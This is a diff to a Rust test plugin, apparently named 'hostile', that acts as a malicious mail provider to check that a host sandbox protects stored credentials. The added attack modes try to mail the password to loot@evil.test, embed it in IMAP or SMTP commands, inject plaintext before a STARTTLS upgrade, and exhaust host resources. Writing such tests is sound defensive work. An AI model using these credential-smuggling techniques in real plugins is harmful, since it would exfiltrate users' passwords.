@@ -18,14 +18,16 @@ wit_bindgen::generate!({
             import wasi:sockets/ip-name-lookup@0.2.12;
         }
     "#,
-    path: "../../wit",
+    // The contract exactly as released at 1.0.0: this plugin is the proof
+    // that a 1.0 plugin keeps working, and is held to the 1.0 rules.
+    path: "../../wit/archive/1.0.0",
     world: "test:hostile/hostile",
     generate_all,
 });
 
 use exports::mailroom::provider::provider::{
-    Account, Credential, Endpoint, Field, Guest, GuestSession, Message, Outgoing, Page, PluginInfo,
-    ProviderError, Session, Window,
+    Account, BasicCredential, Credential, Endpoint, Field, Guest, GuestSession, Message, Outgoing,
+    Page, PluginInfo, ProviderError, Session, Window,
 };
 use mailroom::provider::net::{Connection, SecretEncoding, Security};
 
@@ -64,11 +66,31 @@ fn read_line(conn: &Connection) -> String {
     String::from_utf8_lossy(&got).into_owned()
 }
 
-/// Ask the host to write a secret to an echo server, and read back the echo.
+/// Ask the host to write a secret in an IMAP LOGIN (the one framing it lets
+/// a secret into here) to an echo server, and read back the echo.
 fn echo_secret(conn: &Connection, secret: &str) -> String {
-    match conn.write_secret(b"ECHO ", secret, &SecretEncoding::Raw, b"\r\n") {
+    match conn.write_secret(
+        b"A1 LOGIN bob ",
+        secret,
+        &SecretEncoding::ImapQuoted,
+        b"\r\n",
+    ) {
         Ok(()) => read_line(conn),
         Err(e) => format!("write-secret refused: {e:?}"),
+    }
+}
+
+/// Open a TLS connection to the target.
+fn open_target(account: &Account) -> Result<Connection, ProviderError> {
+    let (host, port) = target(account);
+    Connection::open(&host, port, Security::Tls).map_err(|e| report(format!("open: {e:?}")))
+}
+
+/// Write a secret with the bytes around it chosen by the plugin.
+fn place(conn: &Connection, before: &[u8], encoding: SecretEncoding, after: &[u8]) -> String {
+    match conn.write_secret(before, "password", &encoding, after) {
+        Ok(()) => format!("written; read back {:?}", read_line(conn)),
+        Err(e) => format!("refused: {e:?}"),
     }
 }
 
@@ -139,6 +161,33 @@ fn late_body(authority: &str) -> String {
     format!("status {status}; write {wrote}; finish {finished}")
 }
 
+/// Send a GET, read the body and return the trailers it ended with.
+fn http_trailers(authority: &str, path: &str) -> Result<String, String> {
+    use wasi::http::types::IncomingBody;
+    let response = http_send(authority, path)?;
+    let body = response.consume().map_err(|()| "body")?;
+    {
+        let stream = body.stream().map_err(|()| "stream")?;
+        while stream.blocking_read(65536).is_ok() {}
+    }
+    let trailers = IncomingBody::finish(body);
+    trailers.subscribe().block();
+    let trailers = trailers
+        .get()
+        .ok_or("no trailers")?
+        .map_err(|()| "trailers taken")?
+        .map_err(|e| format!("{e:?}"))?;
+    Ok(trailers
+        .map(|t| {
+            t.entries()
+                .iter()
+                .map(|(k, v)| format!("{k}: {}", String::from_utf8_lossy(v)))
+                .collect::<Vec<_>>()
+                .join("\n")
+        })
+        .unwrap_or_default())
+}
+
 /// Send a GET and read the whole response: headers, a blank line, the body.
 fn http_get(authority: &str, path: &str) -> Result<String, String> {
     let response = http_send(authority, path)?;
@@ -178,6 +227,14 @@ fn attack(account: &Account) -> Result<(), ProviderError> {
             }
         }
         "panic" => panic!("hostile panic: boom"),
+        // Resources the host keeps for the plugin, without end.
+        "resources" => {
+            let mut held = Vec::new();
+            for _ in 0..100_000 {
+                held.push(wasi::http::types::Fields::new());
+            }
+            Err(report(format!("held {} fields", held.len())))
+        }
         "undeclared" => match Connection::open("undeclared.example.com", 993, Security::Tls) {
             Ok(_) => Err(report("connected to an undeclared host")),
             Err(e) => Err(report(format!("open: {e:?}"))),
@@ -228,12 +285,71 @@ fn attack(account: &Account) -> Result<(), ProviderError> {
         "secret-starttls" => {
             let conn = Connection::open(&host, port, Security::Plain)
                 .map_err(|e| report(format!("open: {e:?}")))?;
-            conn.write(b"STARTTLS\r\n")
+            conn.write(b"A0 STARTTLS\r\n")
                 .map_err(|e| report(format!("write: {e:?}")))?;
             let ok = read_line(&conn);
             conn.start_tls()
                 .map_err(|e| report(format!("starttls after {ok:?}: {e:?}")))?;
             Err(report(format!("echo: {}", echo_secret(&conn, "password"))))
+        }
+        "sign-in-echo" => {
+            let conn = open_target(account)?;
+            Err(report(format!("echo: {}", echo_secret(&conn, "password"))))
+        }
+        // The password as the body of a mail to a third party, on a granted
+        // connection: around the secret, and then written first.
+        "smtp-exfil" => {
+            let conn = open_target(account)?;
+            let _ = conn.write(b"EHLO mailroom\r\n");
+            let _ = read_line(&conn);
+            let mail = b"MAIL FROM:<x@example.test>\r\nRCPT TO:<loot@evil.test>\r\nDATA\r\n";
+            let around = place(&conn, mail, SecretEncoding::Raw, b"\r\n.\r\n");
+            let _ = conn.write(mail);
+            let after = place(
+                &conn,
+                b"AUTH PLAIN ",
+                SecretEncoding::SaslPlain("bob".into()),
+                b"\r\n",
+            );
+            Err(report(format!("around: {around}; after: {after}")))
+        }
+        // Signed in, the password again as a mailbox name.
+        "imap-create" => {
+            let conn = open_target(account)?;
+            let signed_in = echo_secret(&conn, "password");
+            let create = place(&conn, b"A2 CREATE ", SecretEncoding::ImapQuoted, b"\r\n");
+            Err(report(format!("login: {signed_in}; create: {create}")))
+        }
+        // An EHLO left open so that the password becomes the client name.
+        "unfinished-line" => {
+            let conn = open_target(account)?;
+            let _ = conn.write(b"EHLO ");
+            let auth = place(
+                &conn,
+                b"AUTH PLAIN ",
+                SecretEncoding::SaslPlain("bob".into()),
+                b"\r\n",
+            );
+            Err(report(format!("auth: {auth}")))
+        }
+        // Read the STARTTLS answer one byte at a time, leaving whatever the
+        // server injected after it unread, and upgrade.
+        "starttls-inject" => {
+            let conn = Connection::open(&host, port, Security::Plain)
+                .map_err(|e| report(format!("open: {e:?}")))?;
+            conn.write(b"STARTTLS\r\n")
+                .map_err(|e| report(format!("write: {e:?}")))?;
+            let mut answer = Vec::new();
+            while !answer.ends_with(b"\n") {
+                match conn.read(1) {
+                    Ok(b) if !b.is_empty() => answer.extend(b),
+                    other => return Err(report(format!("read: {other:?}"))),
+                }
+            }
+            match conn.start_tls() {
+                Ok(()) => Err(report("upgraded over injected plaintext")),
+                Err(e) => Err(report(format!("starttls: {e:?}"))),
+            }
         }
         "secret-unknown" => {
             let conn = Connection::open(&host, port, Security::Tls)
@@ -243,8 +359,25 @@ fn attack(account: &Account) -> Result<(), ProviderError> {
                 echo_secret(&conn, "no_such_secret")
             )))
         }
-        "secret-http" => match http_get(&format!("{host}:{port}"), "/echo") {
-            Ok(text) => Err(report(format!("http echo: {text}"))),
+        // The bearer endpoint, or the Basic one (`basic_host`), echoing the
+        // request at `path` (`/echo`, `/upper`, `/json`, `/url`).
+        "secret-http" | "basic-http" => {
+            let authority = if setting(account, "attack") == "basic-http" {
+                format!("{}:{port}", setting(account, "basic_host"))
+            } else {
+                format!("{host}:{port}")
+            };
+            let path = match setting(account, "path") {
+                "" => "/echo",
+                p => p,
+            };
+            match http_get(&authority, path) {
+                Ok(text) => Err(report(format!("http echo: {text}"))),
+                Err(e) => Err(report(format!("http: {e}"))),
+            }
+        }
+        "http-trailer" => match http_trailers(&format!("{host}:{port}"), "/trailer") {
+            Ok(text) => Err(report(format!("trailers: {text}"))),
             Err(e) => Err(report(format!("http: {e}"))),
         },
         "http-redirect" => {
@@ -363,6 +496,9 @@ impl Guest for Hostile {
                 field("target_host", false),
                 field("target_port", false),
                 field("size", false),
+                field("path", false),
+                field("user", false),
+                field("basic_host", false),
                 field("password", true),
                 field("token", true),
             ],
@@ -372,6 +508,13 @@ impl Guest for Hostile {
                 endpoint(
                     "https://{target_host}:{target_port}",
                     Some(Credential::Bearer("token".into())),
+                ),
+                endpoint(
+                    "https://{basic_host}:{target_port}",
+                    Some(Credential::Basic(BasicCredential {
+                        user_field: "user".into(),
+                        secret_field: "password".into(),
+                    })),
                 ),
             ],
         }
